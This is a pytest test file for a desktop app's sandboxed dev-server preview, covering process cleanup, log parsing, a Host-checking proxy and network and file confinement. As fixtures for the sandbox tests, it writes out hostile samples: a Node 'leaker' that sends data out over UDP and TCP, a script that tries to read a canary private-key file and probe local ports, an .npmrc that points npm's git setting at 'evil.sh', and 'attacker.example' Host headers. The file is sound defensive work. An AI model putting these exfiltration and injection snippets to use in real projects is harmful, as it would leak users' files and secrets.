"""The dev server behind the full-stack Preview: a free loopback port, logs, and a stop that
takes every process it started with it."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import socket
import sys
import urllib.request
from pathlib import Path

import pytest

from devora_desktop.core.devserver import DevServer, DevServerError
from tests.core.test_project_runner import all_gone, host_pids, kill_the_app_mid_run

pytestmark = pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")

# A stand-in for `next dev`: reads --port/--hostname (or PORT/HOST), starts a helper child, serves a page.
SERVER = """
const http = require("http");
const { spawn } = require("child_process");
const args = process.argv.slice(2);
const flag = (name) => args.includes(name) ? args[args.indexOf(name) + 1] : undefined;
const port = Number(flag("--port") || process.env.PORT);
const host = flag("--hostname") || process.env.HOST;
const helper = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)",
                                         flag("--token") || "no-token"]);
if (args.includes("--detached")) {  // one that leaves the process group (setsid)
  spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", flag("--token")],
        { detached: true, stdio: "ignore" });
}
console.log(`helper started`);
console.error("Error: Cannot find module './widgets' (a compile error, for the log)");
if (flag("--canary")) {
  let read = "blocked";
  try { require("fs").readFileSync(flag("--canary")); read = "READ"; } catch (e) {}
  console.log(`canary: ${read}`);
  const probe = require("net").connect(Number(flag("--other")), "127.0.0.1");
  probe.on("connect", () => { console.log("other port: REACHED"); probe.destroy(); });
  probe.on("error", () => console.log("other port: blocked"));
}
http.createServer((req, res) => {
  console.log(`request for ${req.headers.host}`);
  if (req.url.startsWith("/go")) {  // as Next.js redirects: to its own host and port
    let body = "";
    req.on("data", (c) => { body += c; });
    req.on("end", () => {
      res.writeHead(303, { "Location": `http://localhost:${port}/there?got=${body.length}`,
                           "X-Other": `http://localhost:${port}/not-a-redirect` });
      res.end();
    });
    return;
  }
  res.end(`hello from ${host}`);
}).listen(port, host,
  () => console.log(`ready on ${host}:${port}`));
"""


def _token(name: str) -> str:
    """Marks the helper's command line: the sandbox's PID namespace renumbers processes, so
    tests find them as the host sees them (tests/core/test_project_runner.host_pids)."""
    import os

    return f"devora-devserver-{name}-{os.getpid()}"


def _project(root: Path, dev: str = "node server.js") -> Path:
    (root / "package.json").write_text(json.dumps({"name": "p", "scripts": {"dev": dev}}))
    (root / "server.js").write_text(SERVER)
    return root


def _get(url: str, timeout: float = 5) -> str:
    return urllib.request.urlopen(url, timeout=timeout).read().decode()


async def test_start_serves_on_loopback_with_logs_and_stop_kills_the_tree(
        tmp_path: Path) -> None:
    seen: list[str] = []
    token = _token("serve")
    server = DevServer(_project(tmp_path, dev=f"node server.js --token {token}"),
                       on_line=seen.append)
    url = await server.start(timeout=60)
    try:
        # the Preview's URL is Devora's proxy; the dev server itself is on another port
        assert url == server.proxy.url and url != f"http://127.0.0.1:{server.port}/"
        assert await asyncio.to_thread(_get, url) == "hello from 127.0.0.1"
        assert host_pids(token)  # the helper runs
        assert server.running and seen[:2] == list(server.logs)[:2]
        assert server.errors() == ["Error: Cannot find module './widgets' (a compile error, "
                                   "for the log)"]
    finally:
        await server.aclose()
    assert not server.running and await all_gone(token)
    with pytest.raises(OSError):
        await asyncio.to_thread(_get, url)


async def test_stop_without_awaiting_kills_it_too(tmp_path: Path) -> None:
    token = _token("stop")
    server = DevServer(_project(tmp_path, dev=f"node server.js --like-next --token {token}"))
    await server.start(timeout=60)
    assert host_pids(token)
    server.stop()
    assert await all_gone(token)
    await server.aclose()


async def test_a_server_that_exits_says_why_in_one_line(tmp_path: Path) -> None:
    server = DevServer(_project(tmp_path, dev="node -e \"console.log('boom: port in use'); "
                                              "process.exit(3)\""))
    with pytest.raises(DevServerError) as err:
        await server.start(timeout=60)
    assert err.value.one_line() == "the dev server exited (3): boom: port in use"


async def test_colour_codes_are_taken_out_of_its_lines(tmp_path: Path) -> None:
    """Next colours its code frames even with NO_COLOR: the window showed "␛[36mimport"."""
    (tmp_path / "boom.js").write_text(
        "console.log('\\u001b[31mError:\\u001b[39m \\u001b[36mimport\\u001b[39m x');"
        "process.exit(3)")
    seen: list[str] = []
    server = DevServer(_project(tmp_path, dev="node boom.js"), on_line=seen.append)
    with pytest.raises(DevServerError) as err:
        await server.start(timeout=60)
    assert err.value.one_line() == "the dev server exited (3): Error: import x"
    assert "Error: import x" in seen and not any("\x1b" in line for line in seen)
    assert server.errors() == ["Error: import x"]


async def test_a_tools_warning_that_quotes_an_error_is_no_error(tmp_path: Path) -> None:
    """walk24 #21: webpack's cache warnings ("<w> … Error: Unable to snapshot …") were listed
    as the page's JavaScript errors under a page that worked."""
    (tmp_path / "warn.js").write_text(
        "console.log('<w> [webpack.cache.PackFileCacheStrategy] Caching failed for pack: "
        "Error: Unable to snapshot resolve dependencies');"
        "console.log(' \u26a0 Fast Refresh had to perform a full reload due to a runtime error.');"
        "console.log('Error: Cannot find module ./x');process.exit(3)")
    server = DevServer(_project(tmp_path, dev="node warn.js"))
    with pytest.raises(DevServerError):
        await server.start(timeout=60)
    assert server.errors() == ["Error: Cannot find module ./x"]


async def test_no_dev_script_is_said(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text('{"scripts": {}}')
    with pytest.raises(DevServerError, match="no dev script"):
        await DevServer(tmp_path).start()


def _raw(url: str, host: str) -> tuple[int, str]:
    """GET ``url`` saying ``Host: host`` (what a page on a rebound DNS name would send)."""
    import http.client
    from urllib.parse import urlsplit

    parts = urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=5)
    conn.putrequest("GET", "/", skip_host=True)
    conn.putheader("Host", host)
    conn.endheaders()
    response = conn.getresponse()
    body = response.read().decode()
    conn.close()
    return response.status, body


async def test_the_dev_server_refuses_a_foreign_host(tmp_path: Path) -> None:
    server = DevServer(_project(tmp_path))
    url = await server.start(timeout=60)
    try:
        proxy_port = server.proxy.port
        for host in ("attacker.example", f"attacker.example:{proxy_port}",
                     f"127.0.0.1:{server.port}", f"127.0.0.1.nip.io:{proxy_port}", ""):
            status, body = await asyncio.to_thread(_raw, url, host)
            assert status == 421 and "hello" not in body, host
        assert not any(ln.startswith("request for") for ln in server.logs)  # never reached
        for host in (f"127.0.0.1:{proxy_port}", f"localhost:{proxy_port}"):
            assert await asyncio.to_thread(_raw, url, host) == (200, "hello from 127.0.0.1")
    finally:
        await server.aclose()
    assert [ln for ln in server.logs if ln.startswith("request for")] == [
        f"request for 127.0.0.1:{proxy_port}", f"request for localhost:{proxy_port}"]


async def test_redirects_to_the_dev_servers_own_address_come_back_to_the_proxy(
        tmp_path: Path) -> None:
    """Next.js redirects to http://localhost:<its port>/…; the Preview stays on the proxy's
    origin, so the proxy points the Location back at itself (a POST's body still goes)."""
    import http.client

    server = DevServer(_project(tmp_path))
    url = await server.start(timeout=60)
    proxy = server.proxy.port

    def post(host: str) -> tuple[int, str | None, str | None]:
        conn = http.client.HTTPConnection("127.0.0.1", proxy, timeout=10)
        conn.request("POST", "/go", body="email=a%40b.c", headers={"Host": host})
        r = conn.getresponse()
        conn.close()
        return r.status, r.getheader("Location"), r.getheader("X-Other")

    try:
        for host in (f"127.0.0.1:{proxy}", f"localhost:{proxy}"):
            status, location, other = await asyncio.to_thread(post, host)
            assert (status, location) == (303, f"http://{host}/there?got=13")
            assert other == f"http://localhost:{server.port}/not-a-redirect"  # untouched
        assert await asyncio.to_thread(_get, url) == "hello from 127.0.0.1"
    finally:
        await server.aclose()


async def test_a_dev_script_listening_on_every_interface_is_stopped(tmp_path: Path) -> None:
    """Where the dev server shares this computer's network (Landlock alone, no sandbox) a
    server on 0.0.0.0 is stopped. Under bubblewrap it has a network of its own: 0.0.0.0
    there reaches no other computer, nor this one but through Devora's proxy."""
    import socket

    from devora_desktop.core.sandbox import probe

    token = _token("exposed")
    server = DevServer(_project(tmp_path, dev=f"node server.js --hostname 0.0.0.0 --token {token}"))
    if probe().kind == "bwrap":
        url = await server.start(timeout=60)
        try:
            assert await asyncio.to_thread(_get, url) == "hello from 0.0.0.0"
            with pytest.raises(OSError):
                socket.create_connection(("127.0.0.1", server.port), timeout=2).close()
        finally:
            await server.aclose()
        return
    with pytest.raises(DevServerError) as err:
        await server.start(timeout=60)
    assert "listens on 0.0.0.0:" in err.value.one_line()
    assert not server.running and await all_gone(token)


async def test_next_is_started_by_devora_not_by_the_model_written_script(
        tmp_path: Path) -> None:
    """The dev script asks for every interface and its own port; Devora runs the project's
    `next` itself on 127.0.0.1 and the port it chose."""
    root = _project(tmp_path, dev="next dev -H 0.0.0.0 -p 3000")
    bin_dir = root / "node_modules" / ".bin"
    bin_dir.mkdir(parents=True)
    stand_in = bin_dir / "next"
    stand_in.write_text('#!/bin/sh\nshift\nexec node "$(dirname "$0")/../../server.js" "$@"\n')
    stand_in.chmod(0o755)
    server = DevServer(root)
    url = await server.start(timeout=60)
    try:
        assert await asyncio.to_thread(_get, url) == "hello from 127.0.0.1"
        assert f"--port {server.port} --hostname 127.0.0.1" in server.logs[0] + server.logs[1]
    finally:
        await server.aclose()


async def test_the_dev_server_runs_confined(tmp_path: Path) -> None:
    """Where the sandbox works, the project's dev server can't read the user's files or
    reach another service on this computer; it still serves its own port."""
    import socket

    from devora_desktop.core.sandbox import probe

    status = probe()
    if not status.confined:
        if os.environ.get("CI") == "true":   # .ci/run installs bubblewrap: it must work there
            pytest.fail(f"no working sandbox in CI: {status.line()}")
        pytest.skip(f"no working sandbox here: {status.line()}")
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)  # the tests' HOME
    canary = home / "id_rsa"
    canary.write_text("PRIVATE KEY")
    other = socket.create_server(("127.0.0.1", 0))
    project = tmp_path / "project"
    project.mkdir()
    dev = f"node server.js --canary {canary} --other {other.getsockname()[1]}"
    server = DevServer(_project(project, dev=dev))
    url = await server.start(timeout=60)
    try:
        assert await asyncio.to_thread(_get, url) == "hello from 127.0.0.1"
        for _ in range(50):
            if any(ln.startswith("other port:") for ln in server.logs):
                break
            await asyncio.sleep(0.1)
        said = [ln for ln in server.logs if ln.startswith(("canary:", "other port:"))]
        assert sorted(said) == ["canary: blocked", "other port: blocked"], said
    finally:
        await server.aclose()
        other.close()


async def _other_port(server: DevServer) -> str:
    """What the stand-in said of its connection to ``--other`` (it says so once)."""
    for _ in range(50):
        said = [ln for ln in server.logs if ln.startswith("other port:")]
        if said:
            return said[0]
        await asyncio.sleep(0.1)
    return "nothing said"


async def test_a_connected_supabase_port_is_reachable_and_nothing_else(tmp_path: Path) -> None:
    """Connect Supabase: the confined dev server may reach its Supabase project's port (here
    a local Supabase on loopback), and still no other port."""
    import socket

    from devora_desktop.core import supabase
    from devora_desktop.core.sandbox import probe
    from tests.core.test_supabase import ANON

    if not probe().confined:
        pytest.skip("no working sandbox here")
    base = socket.create_server(("127.0.0.1", 0))
    other = socket.create_server(("127.0.0.1", 0))
    project = tmp_path / "project"
    project.mkdir()
    probe_port = base.getsockname()[1]
    _project(project, dev=f"node server.js --canary /nonexistent --other {probe_port}")
    (project / ".env.example").write_text("SUPABASE_URL=\nSUPABASE_ANON_KEY=\n")
    supabase.connect(project, f"http://127.0.0.1:{probe_port}", ANON)
    server = DevServer(project)
    await server.start(timeout=60)
    try:
        assert await _other_port(server) == "other port: REACHED"
        said = (f"may connect to 127.0.0.1:{probe_port} for Supabase, and to nothing else"
                if probe().kind == "bwrap" else
                f"may connect to port {probe_port} for Supabase, on any host")
        assert any(said in ln for ln in server.logs)
    finally:
        await server.aclose()
    # the same project, its server pointed at a port the connection does not name
    (project / "package.json").write_text(json.dumps({"name": "p", "scripts": {
        "dev": f"node server.js --canary /nonexistent --other {other.getsockname()[1]}"}}))
    server = DevServer(project)
    await server.start(timeout=60)
    try:
        assert await _other_port(server) == "other port: blocked"
    finally:
        await server.aclose()
        base.close()
        other.close()


@pytest.mark.slow
async def test_a_real_next_dev_server_works_through_the_sandbox_and_the_proxy() -> None:
    """The offline full-stack template's `next dev`, as the Preview starts it: the page and its
    chunks come through the proxy, hot reload's WebSocket opens through it, a foreign Host is
    refused (~10 s with node_modules cached, plus one npm install)."""
    import re

    import websockets

    from devora_desktop.agents import templates
    from tests.agents.nextapp import NextProject

    prompt = "a todo app for my bakery with due dates"
    spec = templates.read(prompt, "fullstack")
    project = NextProject()
    project.write(templates.all_files("todo", "fullstack", spec.name, spec))
    await asyncio.to_thread(project.install)
    server = DevServer(project.root)
    url = await server.start(timeout=240)
    try:
        page = await asyncio.to_thread(_get, url, 180)  # next dev compiles on first request
        chunk = re.search(r'src="(/_next/static/chunks/[^"]+)"', page)
        assert chunk is not None, page[:300]
        await asyncio.to_thread(_get, url.rstrip("/") + chunk.group(1), 60)
        hmr = url.replace("http://", "ws://") + "_next/webpack-hmr"
        async with websockets.connect(hmr, open_timeout=30) as ws:
            assert "sync" in str(await asyncio.wait_for(ws.recv(), 30))
        status, _body = await asyncio.to_thread(_raw, url, "attacker.example")
        assert status == 421
        assert "--hostname 127.0.0.1" in " ".join(server.logs)
    finally:
        await server.aclose()


# A dev server that tries to send the project's files out: UDP to a listener on this
# computer, TCP to another host on the Supabase port, and to its Supabase host by name.
LEAKER = """
const http = require("http"), net = require("net"), dgram = require("dgram");
const [udpPort, tcpPort, otherHost, supaHost] = process.argv.slice(2);
const port = Number(process.env.PORT);
const u = dgram.createSocket("udp4");
u.send(Buffer.from("leak over udp"), Number(udpPort), "127.0.0.1", () => u.close());
for (const host of [otherHost, supaHost]) {
  const t = net.connect(Number(tcpPort), host);
  t.on("connect", () => { t.end(`leak to ${host}`); });
  t.on("error", () => {});
}
http.createServer((req, res) => res.end("hi")).listen(port, "127.0.0.1");
"""


def _leaker(root: Path, *args: object) -> Path:
    (root / "leak.js").write_text(LEAKER)
    (root / "package.json").write_text(json.dumps({"name": "p", "scripts": {
        "dev": "node leak.js " + " ".join(map(str, args))}}))
    (root / ".env.example").write_text("SUPABASE_URL=\nSUPABASE_ANON_KEY=\n")
    return root


def _heard(sock: socket.socket, seconds: float = 3.0) -> list[bytes]:
    """Everything sent to a listener (UDP datagrams, or each TCP connection's bytes)."""
    import time

    got: list[bytes] = []
    sock.settimeout(0.2)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            if sock.type == socket.SOCK_DGRAM:
                got.append(sock.recv(100))
            else:
                conn, _ = sock.accept()
                conn.settimeout(2)
                with conn:
                    got.append(conn.recv(100))
        except OSError:
            continue
    return got


async def test_a_connected_dev_server_reaches_its_supabase_host_and_nothing_else(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Landlock filters ports, not hosts: with a hosted Supabase connected, the dev server
    could send the project's files to any host's port 443, and over UDP to anywhere at any
    time. Under bubblewrap it has a network of its own: its Supabase host by name (relayed
    by Devora to that host alone), and nothing else."""
    import socket

    from devora_desktop.core import sandbox, supabase
    from tests.core.test_supabase import ANON

    if sandbox.probe().kind != "bwrap":
        pytest.skip("bubblewrap only: Landlock alone can't name hosts (said in its log line)")
    supa = socket.create_server(("127.0.0.1", 0))        # stands for abcd….supabase.co:443
    other = socket.create_server(("127.0.0.2", 443 if os.geteuid() == 0 else 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    dialled: list[tuple[str, int]] = []

    def dial(host: str, port: int) -> socket.socket:
        dialled.append((host, port))
        return socket.create_connection(supa.getsockname())

    monkeypatch.setattr(sandbox, "_dial", dial)
    host = "abcdefghijklmnop.supabase.co"
    project = _leaker(tmp_path, udp.getsockname()[1], other.getsockname()[1], "127.0.0.2", host)
    supabase.connect(project, f"https://{host}", ANON)
    server = DevServer(project)
    url = await server.start(timeout=60)
    try:
        assert await asyncio.to_thread(_get, url) == "hi"   # served through its door
        assert await asyncio.to_thread(_heard, other) == []
        assert await asyncio.to_thread(_heard, udp, 0.5) == []
        heard = await asyncio.to_thread(_heard, supa, 0.5)
        assert heard == [f"leak to {host}".encode()] and dialled == [(host, 443)]
        assert any(f"it may connect to {host}:443 for Supabase, and to nothing else" in ln
                   for ln in server.logs)
    finally:
        await server.aclose()
        for sock in (supa, other, udp):
            sock.close()


def test_a_door_below_1024_is_opened_without_devpts(tmp_path: Path) -> None:
    """Run by a person (not root), bubblewrap's --dev nests a second user namespace whose
    capabilities don't cover the run's network: the supervisor could not open the
    Supabase door on 443 and the dev server never started (seen as uid 1001; the tests
    run as root, so this reads the command line)."""
    from devora_desktop.core import sandbox

    if sandbox._bwrap() is None:
        pytest.skip("no bubblewrap")
    spec = sandbox.Confinement(tmp_path, network="serve", ports=(4000,), connect_ports=(443,),
                               connect_hosts=("abcdefghijklmnop.supabase.co",))
    launch = sandbox.prepare(["/bin/true"], spec, {"PATH": "/usr/bin:/bin"}, kind="bwrap")
    try:
        assert "--dev" not in launch.argv and "--share-net" not in launch.argv
        at = launch.argv.index("--cap-add")
        assert launch.argv[at + 1] == "CAP_NET_BIND_SERVICE"
        null = launch.argv.index("/dev/null")
        assert launch.argv[null - 1:null + 2] == ["--dev-bind", "/dev/null", "/dev/null"]
    finally:
        launch.cleanup()


async def test_a_dev_server_that_rewrites_env_local_is_still_let_out_only_to_supabase(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The dev server runs in the project folder and can rewrite .env.local: pointed at
    http://127.0.0.1:<a service of this computer> (a database, Docker's API), its next start
    was let out there. Where it may connect comes from what the person connected."""
    from devora_desktop.core import sandbox, supabase
    from tests.core.test_supabase import ANON

    if not sandbox.probe().confined:
        pytest.skip("no working sandbox here")
    service = socket.create_server(("127.0.0.1", 0))   # e.g. a local database
    supa = socket.create_server(("127.0.0.1", 0))
    host = "abcdefghijklmnop.supabase.co"
    monkeypatch.setattr(sandbox, "_dial", lambda h, p: socket.create_connection(
        supa.getsockname() if h == host else (h, p)))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    port = service.getsockname()[1]
    project = _leaker(tmp_path, 9, port, "127.0.0.1", "127.0.0.1")
    supabase.connect(project, f"https://{host}", ANON)
    env = project / ".env.local"  # what the project's own code can do
    env.write_text(env.read_text().replace(f"https://{host}", f"http://127.0.0.1:{port}"))
    server = DevServer(project)
    await server.start(timeout=60)
    try:
        assert await asyncio.to_thread(_heard, service) == []
    finally:
        await server.aclose()
        for sock in (service, supa, udp):
            sock.close()


async def test_the_projects_npmrc_never_names_a_program_npm_install_runs(
        tmp_path: Path) -> None:
    """`npm install --ignore-scripts` runs no package script, but the project's .npmrc can
    say `git=./evil.sh`: npm ran it for a git dependency, with the registry's network (it
    sent a UDP datagram here, tried for real)."""
    project = tmp_path / "project"
    project.mkdir()
    ran = project / "ran.txt"  # the program can write only in the project
    evil = project / "evil.sh"
    evil.write_text(f"#!/bin/sh\necho ran >> {ran}\nexit 1\n")
    evil.chmod(0o755)
    (project / ".npmrc").write_text(f"git={evil}\n")
    (project / "package.json").write_text(json.dumps({
        "name": "p", "version": "1.0.0", "scripts": {"dev": "node -e 1"},
        "dependencies": {"x": "git+https://example.invalid/x.git"}}))
    server = DevServer(project, cache_dir=tmp_path / "cache")
    with pytest.raises(DevServerError, match="npm install failed"):
        await server.start(timeout=120)
    assert not ran.exists()


async def test_a_second_start_skips_npm_install_when_node_modules_is_current(
        tmp_path: Path) -> None:
    """Coming back to a project whose dev server stopped (the Preview keeps a few, not all:
    core/preview_pool.py) starts only `npm run dev`: its packages are installed already.
    A changed package.json installs again. The dependency is a local folder (no network)."""
    (tmp_path / "project").mkdir()
    project = _project(tmp_path / "project")
    (project / "widgets").mkdir()
    (project / "widgets" / "package.json").write_text('{"name": "widgets", "version": "1.0.0"}')
    package = json.loads((project / "package.json").read_text())
    package["dependencies"] = {"widgets": "file:./widgets"}
    (project / "package.json").write_text(json.dumps(package))

    async def start_and_stop() -> list[str]:
        seen: list[str] = []
        server = DevServer(project, cache_dir=tmp_path / "cache", on_line=seen.append)
        try:
            await server.start(timeout=120)
        finally:
            await server.aclose()
        return [line for line in seen if line.startswith("$ npm install")]

    assert await start_and_stop() == ["$ npm install"]
    assert (project / "node_modules" / "widgets").exists()
    assert await start_and_stop() == []  # current: not installed again
    package["dependencies"]["left-pad"] = "file:./widgets"
    (project / "package.json").write_text(json.dumps(package))
    assert await start_and_stop() == ["$ npm install"]


# The window's dev-server start, without the window: the app the test SIGKILLs.
DEV_APP = """
import asyncio, sys
from pathlib import Path
from devora_desktop.core.devserver import DevServer
async def main():
    await DevServer(Path(sys.argv[1])).start(timeout=120)
    print("started", flush=True)
    await asyncio.sleep(600)
asyncio.run(main())
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux: PR_SET_PDEATHSIG")
def test_an_unconfined_dev_server_dies_with_a_crashed_app(tmp_path: Path) -> None:
    """attack14 #2: where nothing confines it (the person clicked Start after "Nothing
    confines it"), a crash of Devora left `npm run dev`'s tree running. The same supervisor
    as the confined start's now holds it: nothing outlives a SIGKILLed app, the child that
    left the process group included."""
    from devora_desktop.core.sandbox import FORCE_ENV

    token = _token("crash")
    project = _project(tmp_path, dev=f"node server.js --detached --token {token}")
    left = kill_the_app_mid_run([sys.executable, "-c", DEV_APP, str(project)], token,
                                running=3, env={FORCE_ENV: "none"})
    assert left == [], f"still running after the app died: {left}"
